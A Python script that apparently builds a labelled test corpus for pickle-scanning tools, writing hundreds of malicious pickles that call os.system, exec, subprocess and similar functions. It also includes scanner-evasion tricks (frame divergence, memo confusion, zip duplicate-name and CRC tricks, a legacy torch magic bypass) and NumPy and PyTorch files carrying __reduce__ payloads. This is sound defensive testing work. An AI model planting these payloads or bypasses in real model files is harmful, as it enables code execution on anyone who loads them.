"""Builds the scanner corpus: the kinds of malicious and benign files that the test suites of
picklescan, fickling and modelscan exercise, rebuilt here from what those tests do (the names
their advisories list, the opcode tricks they test, the containers they open), plus one sample
per entry of each installed scanner's own list of dangerous globals. Written opcode by opcode
where CPython's pickler would need the modules importable, so that nothing is imported or run.

    python scanner_corpus.py OUT_DIR     writes OUT_DIR/<kind>/<name> and OUT_DIR/manifest.json

manifest.json: [{"file": relative path, "kind": "malicious" | "benign", "why": text}, ...]."""
import io
import json
import os
import pickle
import struct
import sys
import zipfile

PAYLOAD = "__import__('os').system('echo pwned')"


# ---- a few opcodes ------------------------------------------------------------------------

def u(text):
    """SHORT_BINUNICODE / BINUNICODE of `text`."""
    data = text.encode()
    if len(data) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def literal(value, protocol):
    """A plain argument (str, bytes, int, None, bool, tuple, list, dict) as CPython pickles it."""
    body = pickle.dumps(value, protocol=protocol)
    start = 2 if protocol >= 2 else 0
    if protocol >= 4 and body[2:3] == pickle.FRAME:
        start = 11
    return body[start:-1]


def global_ref(module, name, protocol):
    """Pushes module.name: GLOBAL for protocols 0-3 (a dotted name through getattr, as CPython
    pickles a method), STACK_GLOBAL with the qualified name for 4 and 5."""
    if protocol >= 4:
        return u(module) + u(name) + pickle.STACK_GLOBAL
    first, *attrs = name.split(".")
    getattr_ = b"cbuiltins\ngetattr\n" if protocol >= 3 else b"c__builtin__\ngetattr\n"
    out = pickle.GLOBAL + f"{module}\n{first}\n".encode()
    for attr in attrs:
        out = getattr_ + pickle.MARK + out + literal(attr, protocol) + pickle.TUPLE + pickle.REDUCE
    return out


def call(module, name, args, protocol=4):
    """A pickle that calls module.name(*args) when loaded."""
    head = pickle.PROTO + bytes([protocol]) if protocol >= 2 else b""
    return head + global_ref(module, name, protocol) + literal(tuple(args), protocol) + pickle.REDUCE + pickle.STOP


# ---- the calls their tests make ---------------------------------------------------------------

CALLS = [
    ("builtins", "eval", ["print('456')"]), ("builtins", "exec", [PAYLOAD]), ("builtins", "compile", [PAYLOAD, "", "exec"]),
    ("builtins", "__import__", ["os"]), ("builtins", "open", ["/etc/passwd"]), ("builtins", "breakpoint", []),
    ("builtins", "getattr", [0, "real"]), ("__builtin__", "apply", [0, []]), ("builtins", "eval.__call__", [PAYLOAD]),
    ("os", "system", ["ls -la"]), ("posix", "system", ["id"]), ("nt", "system", ["dir"]), ("os", "popen", ["id"]),
    ("subprocess", "run", [["ls", "-l"]]), ("subprocess", "Popen", [["id"]]), ("subprocess", "check_output", [["id"]]),
    ("sys", "exit", [0]), ("socket", "create_connection", [("github.com", 80)]),
    ("http.client", "HTTPSConnection", ["github.com"]), ("httplib", "HTTPSConnection", ["github.com"]),
    ("requests", "get", ["https://example.invalid"]), ("requests.api", "get", ["https://example.invalid"]),
    ("aiohttp", "ClientSession", []), ("aiohttp.client", "ClientSession", []),
    ("pickle", "loads", [b"I12345\n."]), ("_pickle", "loads", [b"I12345\n."]), ("cPickle", "loads", [b"I1\n."]),
    ("runpy", "_run_code", [PAYLOAD, {}]), ("runpy", "run_path", ["/tmp/x.py"]), ("bdb", "Bdb.run", [None, PAYLOAD]),
    ("pdb", "run", [PAYLOAD]), ("pip", "main", [["install", "something"]]),
    ("torch._inductor.codecache", "compile_file", ["", "", ["sh", "-c", "id"]]), ("pydoc", "pipepager", ["", "id"]),
    ("pydoc", "locate", ["os.system"]), ("torch", "load", ["other.bin"]), ("torch.serialization", "load", ["other.bin"]),
    ("venv", "create", ["venv", False, False, True, False, "$(id)"]), ("timeit", "timeit", ["", PAYLOAD]),
    ("numpy.testing._private.utils", "runstring", [PAYLOAD, {}]),
    ("torch.utils.bottleneck.__main__", "run_cprofile", [PAYLOAD, {}]),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", [PAYLOAD, {}]),
    ("torch._dynamo.guards", "GuardBuilder.get", [{}, PAYLOAD]),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", [{}, PAYLOAD, []]),
    ("torch.utils.collect_env", "run", [PAYLOAD]), ("torch.utils.collect_env", "run_and_read_all", [None, PAYLOAD]),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ["pickle", b""]),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", [PAYLOAD, {}, {}]),
    ("torch.utils._config_module", "ConfigModule.load_config", [{}, b""]), ("trace", "Trace.run", [{}, PAYLOAD]),
    ("trace", "Trace.runctx", [{}, PAYLOAD, {}, {}]), ("profile", "Profile.run", [{}, PAYLOAD]),
    ("profile", "Profile.runctx", [{}, PAYLOAD, {}, {}]), ("lib2to3.pgen2.grammar", "Grammar.loads", [{}, b""]),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", [None, {}, PAYLOAD]),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", [{}, PAYLOAD]), ("idlelib.autocomplete", "AutoComplete.get_entity", [{}, PAYLOAD]),
    ("idlelib.autocomplete", "AutoComplete.fetch_completions", [{}, PAYLOAD, 1]),
    ("code", "InteractiveInterpreter.runcode", [{}, PAYLOAD]), ("code", "InteractiveInterpreter.runsource", [{}, PAYLOAD]),
    ("idlelib.calltip", "Calltip.fetch_tip", [{}, PAYLOAD]), ("idlelib.calltip", "get_entity", [PAYLOAD]),
    ("ensurepip", "_run_pip", [PAYLOAD]), ("pkgutil", "resolve_name", ["os:system"]),
    ("idlelib.run", "Executive.runcode", [{}, PAYLOAD]), ("idlelib.pyshell", "ModifiedInterpreter.runcommand", [{}, PAYLOAD]),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", [{}, PAYLOAD]), ("doctest", "debug_script", [PAYLOAD, True]),
    ("cProfile", "runctx", [PAYLOAD, None, None]), ("cProfile", "run", [PAYLOAD]), ("profile", "run", [PAYLOAD]),
    ("logging", "FileHandler", ["evil.log"]),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", [{}, "whoami", True, None, None, None, 0]),
    ("distutils.file_util", "write_file", ["pwned.env", ["x"]]), ("ctypes", "CDLL", [None]),
    ("operator", "methodcaller", ["system", "id"]), ("operator", "attrgetter", ["system"]),
    ("_operator", "itemgetter", [0]), ("pty", "spawn", [["/bin/sh", "-c", "id"]]),
    ("numpy.f2py.crackfortran", "getlincoef", [PAYLOAD, []]), ("uuid", "_get_command_stdout", ["id"]),
    ("_osx_support", "_read_output", ["id"]), ("_osx_support", "_find_build_tool", ["id"]),
    ("_aix_support", "_read_cmd_output", ["id"]), ("imaplib", "IMAP4_stream", ["id"]), ("poplib", "POP3", ["x"]),
    ("nntplib", "NNTP", ["x"]), ("smtplib", "SMTP", ["x"]), ("ftplib", "FTP", ["x"]), ("telnetlib", "Telnet", ["x"]),
    ("_pyrepl.pager", "pipe_pager", ["text", "id"]), ("test.support.script_helper", "assert_python_ok", ["-c pass"]),
    ("io", "FileIO", ["/etc/hosts", "r"]), ("_io", "FileIO", ["/etc/hosts", "r"]), ("io", "open", ["/etc/hosts"]),
    ("urllib.request", "urlopen", ["https://example.invalid"]), ("ssl", "get_server_certificate", [("x.invalid", 443)]),
    ("linecache", "getline", ["/etc/passwd", 1]), ("marshal", "loads", [b"\xe3"]), ("types", "FunctionType", [None, {}]),
    ("types", "CodeType", [0]), ("importlib", "import_module", ["os"]), ("multiprocessing.util", "spawnv_passfds", [b"/bin/sh", [], ()]),
    ("_interpreters", "create", []), ("_xxsubinterpreters", "create", []), ("ast", "parse", ["1"]),
    ("pathlib", "os.system", ["id"]), ("cloudpickle.cloudpickle", "_make_function", [None]), ("cloudpickle", "subimport", ["os"]),
    ("dill._dill", "_create_function", [None]), ("joblib", "load", ["x.pkl"]), ("webbrowser", "open", ["https://x.invalid"]),
    ("shutil", "rmtree", ["/tmp/x"]), ("commands", "getoutput", ["id"]), ("torch", "compile", [None]),
    ("torch.distributed.elastic.rendezvous.api", "basichandlers", []), ("functools", "partial", [None]),
    ("numpy", "load", ["other.npy"]), ("torch.storage", "_load_from_bytes", [b"x"]), ("torch.hub", "load", ["a/b", "m"]),
    ("torch", "os.system", ["id"]), ("sys", "modules.__getitem__", ["os"]), ("keras.models", "load_model", ["x.h5"]),
    ("tensorflow.io", "write_file", ["x", "y"]), ("yaml", "load", ["!!python/object/apply:os.system [id]"]),
]


def opcode_tricks():
    """Opcode-level tricks from their tests, each a (name, bytes)."""
    p4 = pickle.PROTO + b"\x04"
    cases = {
        # the 2011 'Sour Pickles' chain: globals(), compile, eval, getattr(dict, 'get'), apply
        "sour_pickles.pkl": b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\")'\n"
                            b"S''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n"
                            b"(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'fl'\nltRp104\n0g104\n.",
        "inst_exec.pkl": b"(S'raise RuntimeError(\"x\")'\ni__builtin__\nexec\n.",
        "obj_pty.pkl": pickle.MARK + pickle.GLOBAL + b"pty\nspawn\n" + b"S'id'\n" + pickle.OBJ + pickle.STOP,
        # names fetched from the memo, with a harmless-looking pair stored too
        "memo_stack_global.pkl": b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n"
                                 + pickle.STACK_GLOBAL + b"(Vcat flag.txt\ntR.",
        "memo_stack_global_trailing.pkl": b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n" + pickle.STACK_GLOBAL + b"(Vid\ntR.\n\n\t\t",
        "string_stack_global.pkl": b"S'os'\nS'system'\n" + pickle.STACK_GLOBAL + b"S'ls'\n" + pickle.TUPLE1 + b"R.",
        # the payload runs, then the pickle breaks: a missing memo key, a confused STACK_GLOBAL,
        # a cut tail, or a non-string module name
        "memo_keyerror.pkl": p4 + pickle.GLOBAL + b"os\nsystem\n" + b"Vid\n" + pickle.TUPLE1 + pickle.REDUCE + pickle.POP
                             + u("os") + pickle.MEMOIZE + pickle.BINGET + b"\x03" + pickle.BINGET + b"\x00"
                             + pickle.STACK_GLOBAL + pickle.BININT1 + b"\x42" + pickle.STOP,
        "type_confusion.pkl": p4 + pickle.GLOBAL + b"os\nsystem\n" + b"Vid\n" + pickle.TUPLE1 + pickle.REDUCE + pickle.POP
                              + pickle.BININT + struct.pack("<i", 42) + pickle.MEMOIZE + u("os") + pickle.MEMOIZE
                              + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01" + pickle.STACK_GLOBAL + pickle.STOP,
        "broken_exec.pkl": b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.",
        "cut_after_system.pkl": call("os", "system", ["id"], 2)[:-3],
        "not_a_pickle_utf8.bin": b"cmod\n\xf8\n",
        # chains that reach a dangerous callable through allowed-looking steps
        "getattr_import_module.pkl": p4 + u("builtins") + u("getattr") + pickle.STACK_GLOBAL + u("importlib")
                                     + u("import_module") + pickle.STACK_GLOBAL + u("os") + pickle.TUPLE1 + pickle.REDUCE
                                     + u("system") + pickle.TUPLE2 + pickle.REDUCE + u("id") + pickle.TUPLE1
                                     + pickle.REDUCE + pickle.STOP,
        "methodcaller_locate.pkl": p4 + u("operator") + u("methodcaller") + pickle.STACK_GLOBAL + u("system") + u("id")
                                   + pickle.TUPLE2 + pickle.REDUCE + u("pydoc") + u("locate") + pickle.STACK_GLOBAL
                                   + u("os") + pickle.TUPLE1 + pickle.REDUCE + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP,
        "attrgetter_import.pkl": p4 + u("operator") + u("attrgetter") + pickle.STACK_GLOBAL + u("system") + pickle.TUPLE1
                                 + pickle.REDUCE + u("builtins") + u("__import__") + pickle.STACK_GLOBAL + u("os")
                                 + pickle.TUPLE1 + pickle.REDUCE + pickle.TUPLE1 + pickle.REDUCE + u("id")
                                 + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP,
        "builtins_import_getattr.pkl": b"cbuiltins\n__import__\n(Vos\ntRp0\n0cbuiltins\ngetattr\n(g0\nVsystem\ntRp1\n0g1\n(Vwhoami\ntR.",
        "marshal_function.pkl": p4 + u("marshal") + u("loads") + pickle.STACK_GLOBAL + pickle.SHORT_BINBYTES + b"\x01\xe3"
                                + pickle.TUPLE1 + pickle.REDUCE + pickle.MEMOIZE + u("types") + u("FunctionType")
                                + pickle.STACK_GLOBAL + pickle.BINGET + b"\x00" + pickle.EMPTY_DICT + pickle.TUPLE2
                                + pickle.REDUCE + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.STOP,
        "sys_modules_override.pkl": p4 + u("sys") + u("modules") + pickle.STACK_GLOBAL + u("torch") + u("os")
                                    + u("system") + pickle.STACK_GLOBAL + pickle.SETITEM + pickle.STOP,
        "codetype.pkl": p4 + u("types") + u("CodeType") + pickle.STACK_GLOBAL + literal((0, 0, 0, 0, 1, 64, b"d\x00S\x00"), 4)
                        + pickle.REDUCE + pickle.STOP,
    }
    # Frames that a value straddles: CPython's C unpickler reads on past the frame where a
    # frame-honouring scanner stops (python/cpython#154848).
    def framed(body, declared):
        return pickle.PROTO + b"\x05" + pickle.FRAME + struct.pack("<Q", declared) + body + pickle.STOP
    hidden = pickle.GLOBAL + b"os\nsystem\n" + pickle.UNICODE + b"echo pwned\n" + pickle.TUPLE1 + pickle.REDUCE
    cases["frame_divergence.pkl"] = (pickle.PROTO + b"\x05" + pickle.NONE + pickle.UNICODE + b"a" * (8192 * 16 - 17) + b"\n"
                                     + pickle.POP + pickle.MARK + pickle.FRAME + struct.pack("<Q", 2) + pickle.BINBYTES
                                     + b"\x07\x01\x00\x00" + b"\x00\x00" + (hidden + pickle.MARK).ljust(256 + 5, pickle.NONE)
                                     + pickle.POP_MARK + pickle.STOP)
    for name, body, declared in [("binbytes", pickle.BINBYTES + struct.pack("<I", 20) + b"A" * 20, 5),
                                 ("short_binunicode", b"\x8c\x14" + b"A" * 20, 3),
                                 ("global_module", pickle.GLOBAL + b"macos\nsystem\n", 4),
                                 ("global_attr", pickle.GLOBAL + b"os\nsystem\n", 7),
                                 ("unicode", pickle.UNICODE + b"hello world\n", 5),
                                 ("binint", pickle.BININT + struct.pack("<i", 7), 2)]:
        cases[f"frame_straddle_{name}.pkl"] = framed(body, declared)
    cases["frame_in_frame.pkl"] = (pickle.PROTO + b"\x05" + pickle.FRAME + struct.pack("<Q", 30) + pickle.NONE
                                   + pickle.FRAME + struct.pack("<Q", 2) + pickle.NONE + pickle.STOP)
    cases["second_proto.pkl"] = pickle.PROTO + b"\x02" + pickle.NONE + pickle.POP + pickle.PROTO + b"\x04" + pickle.NONE + pickle.STOP
    return cases


def zip_bytes(records, compression=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as z:
        for name, data in records:
            z.writestr(name, data)
    return buffer.getvalue()


def containers():
    """Files scanners open: zips of pickles, npy/npz, torch files with a payload, legacy files."""
    evil = call("builtins", "eval", ["print('456')"], 4)
    out = {
        "zip_data_pkl.zip": zip_bytes([("data.pkl", evil)]),
        "zip_wrong_extension.zip": zip_bytes([("data.txt", evil)]),
        "zip_deflated_member.zip": zip_bytes([("model/weights.pkl", evil)], zipfile.ZIP_DEFLATED),
        "zip_crc_mismatch.zip": zip_bytes([("data.pkl", evil)]).replace(b"print('456')", b"print('123')", 1),
        "zip_central_directory_name.zip": zip_bytes([("data.pkl", evil)]).replace(b"data.pkl", b"datap.kl", 1),
        "zip_two_records_same_name.zip": None,  # built below
        "pickles_after_harmless.pkl": pickle.dumps(["a", "b", "c"]) + call("requests", "get", ["https://x.invalid"], 4),
        # the legacy layout with its magic number computed by eval, a payload in a later pickle
        "legacy_magic_bypass.pt": (call("builtins", "eval", ["0x1950A86A20F9469CFC6C"], 2) + pickle.dumps(1001, protocol=2)
                                   + pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2)
                                   + call("os", "system", ["echo pwned"], 2) + pickle.dumps(None, protocol=2)),
    }
    records = [("archive/data.pkl", pickle.dumps({}, protocol=2)), ("archive/version", b"3\n")]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in records:
            z.writestr(name, data)
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            z.writestr("archive/data.pkl", call("os", "system", ["id"], 2))
    out["zip_two_records_same_name.zip"] = buffer.getvalue()
    return out


def numpy_files(root):
    import numpy as np

    class Payload:
        def __reduce__(self):  # what np.save pickles for it; never called here
            return (os.system, ("id",))

    made = []
    np.save(f"{root}/malicious/object_array_payload.npy", np.array([Payload()], dtype=object), allow_pickle=True)
    np.savez(f"{root}/malicious/object_arrays_payload.npz", a=np.array([Payload()], dtype=object), b=np.arange(3))
    np.savez_compressed(f"{root}/malicious/object_arrays_payload_compressed.npz", a=np.array([Payload()], dtype=object))
    made += [("malicious/object_array_payload.npy", "malicious", "np.save of an object array whose item reduces to os.system"),
             ("malicious/object_arrays_payload.npz", "malicious", "np.savez with such an object array"),
             ("malicious/object_arrays_payload_compressed.npz", "malicious", "np.savez_compressed with such an object array")]
    x = np.empty((2, 2), dtype=object)
    x[:] = [(1, 2), (3, 4)]
    np.save(f"{root}/benign/object_array.npy", x)
    np.save(f"{root}/benign/int_array.npy", np.arange(4).reshape(2, 2))
    np.savez(f"{root}/benign/int_arrays.npz", a=np.arange(3), b=np.arange(3, 6))
    np.savez_compressed(f"{root}/benign/int_arrays_compressed.npz", a=np.arange(3), b=np.arange(3, 6))
    np.savez(f"{root}/benign/object_arrays.npz", a=np.array([0, 1, 2], dtype=object))
    np.save(f"{root}/benign/structured.npy", np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8", (2,))]))
    made += [(f"benign/{n}", "benign", "NumPy arrays") for n in
             ["object_array.npy", "int_array.npy", "int_arrays.npz", "int_arrays_compressed.npz", "object_arrays.npz",
              "structured.npy"]]
    return made


def torch_files(root):
    import argparse
    import collections
    import torch
    import torchvision

    class Payload:
        def __reduce__(self):
            return (os.system, ("id",))

    made = []
    torch.save({"weight": torch.zeros(2), "x": Payload()}, f"{root}/malicious/torch_zip_payload.pt")
    torch.save({"weight": torch.zeros(2), "x": Payload()}, f"{root}/malicious/torch_legacy_payload.pt",
               _use_new_zipfile_serialization=False)
    made += [("malicious/torch_zip_payload.pt", "malicious", "torch.save of a dict with an os.system reduce"),
             ("malicious/torch_legacy_payload.pt", "malicious", "the same in the legacy format")]
    model = torchvision.models.resnet18()
    torch.save(model.state_dict(), f"{root}/benign/resnet18.pt")
    torch.save(torchvision.models.mobilenet_v3_small().state_dict(), f"{root}/benign/mobilenet_v3_small.pth")
    torch.save(model.state_dict(), f"{root}/benign/resnet18_legacy.pt", _use_new_zipfile_serialization=False)
    optimizer = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.zeros(2, 3, 32, 32)).sum().backward()
    optimizer.step()
    scheduler = torch.optim.lr_scheduler.StepLR(optimizer, 10)
    torch.save({"epoch": 3, "global_step": 120, "pytorch-lightning_version": "2.4.0",
                "state_dict": collections.OrderedDict(model.state_dict()),
                "optimizer_states": [optimizer.state_dict()], "lr_schedulers": [scheduler.state_dict()],
                "hyper_parameters": {"lr": 1e-3, "layers": [2, 2], "name": "resnet"},
                "hparams_namespace": argparse.Namespace(lr=1e-3, batch_size=32)},
               f"{root}/benign/lightning_style.ckpt")
    torch.save(optimizer.state_dict(), f"{root}/benign/adam_state.pt")
    made += [(f"benign/{n}", "benign", "real PyTorch checkpoints") for n in
             ["resnet18.pt", "mobilenet_v3_small.pth", "resnet18_legacy.pt", "lightning_style.ckpt", "adam_state.pt"]]
    return made


def scanner_lists():
    """(module, name) for each entry of the installed scanners' own lists of dangerous globals:
    every sample they call dangerous by construction."""
    entries = set()
    try:
        from picklescan.scanner import _unsafe_globals
        for module, names in _unsafe_globals.items():
            for name in (["dangerous_function"] if names == "*" else ([names] if isinstance(names, str) else names)):
                entries.add((module, name))
    except ImportError:
        pass
    try:
        from modelscan.settings import DEFAULT_SETTINGS
        for level in DEFAULT_SETTINGS["unsafe_globals"].values():
            for module, names in level.items():
                for name in (["dangerous_function"] if names == "*" else names):
                    entries.add((module, name))
    except ImportError:
        pass
    try:
        from fickling.analysis import UnsafeImportsML
        for module in UnsafeImportsML.UNSAFE_MODULES:
            entries.add((module, "dangerous_function"))
        for module, names in UnsafeImportsML.UNSAFE_IMPORTS.items():
            for name in names:
                entries.add((module, name))
    except ImportError:
        pass
    return sorted(entries)


def build(root):
    os.makedirs(f"{root}/malicious", exist_ok=True)
    os.makedirs(f"{root}/benign", exist_ok=True)
    manifest = []

    def write(kind, name, data, why):
        with open(f"{root}/{kind}/{name}", "wb") as f:
            f.write(data)
        manifest.append({"file": f"{kind}/{name}", "kind": kind, "why": why})

    for module, name, args in CALLS:
        for protocol in (0, 2, 4):
            stem = f"{module}.{name}".replace("/", "_")
            write("malicious", f"call_{stem}_p{protocol}.pkl", call(module, name, args, protocol),
                  f"calls {module}.{name} (protocol {protocol})")
    for name, data in opcode_tricks().items():
        kind = "benign" if name == "not_a_pickle_utf8.bin" else "malicious"
        write(kind, name, data, "an opcode trick from their tests")
    for name, data in containers().items():
        write("malicious", name, data, "a container scanners open")
    for module, name in scanner_lists():
        write("malicious", f"list_{module}.{name}.pkl", call(module, name, [], 4), "an entry of an installed scanner's list")
    # Benign pickles: plain data at every protocol, frames of every shape, harmless builtins.
    values = {"list": ["a", "b", "c"], "nested": {"a": [1, 2, {"b": (3, 4)}], "c": [5, 6]},
              "big_bytes": b"x" * 100000, "interleaved": [1, b"y" * 100000, 2], "many_frames": list(range(200000))}
    for label, value in values.items():
        for protocol in (0, 2, 3, 4, 5):
            write("benign", f"{label}_p{protocol}.pkl", pickle.dumps(value, protocol=protocol), "plain data")
    for module, name in [("builtins", "len"), ("builtins", "dict"), ("collections", "OrderedDict")]:
        write("benign", f"call_{module}.{name}.pkl", call(module, name, [[]], 4), "a harmless builtin")
    for module, name in [("_codecs", "encode"), ("__future__", "annotations")]:
        write("benign", f"global_{module}.{name}.pkl",
              pickle.PROTO + b"\x04" + u(module) + u(name) + pickle.STACK_GLOBAL + pickle.STOP, "an allowed global")
    for file, kind, why in numpy_files(root) + torch_files(root):
        manifest.append({"file": file, "kind": kind, "why": why})
    with open(f"{root}/manifest.json", "w") as f:
        json.dump(manifest, f, indent=1)
    return manifest


if __name__ == "__main__":
    print(len(build(sys.argv[1])), "files")
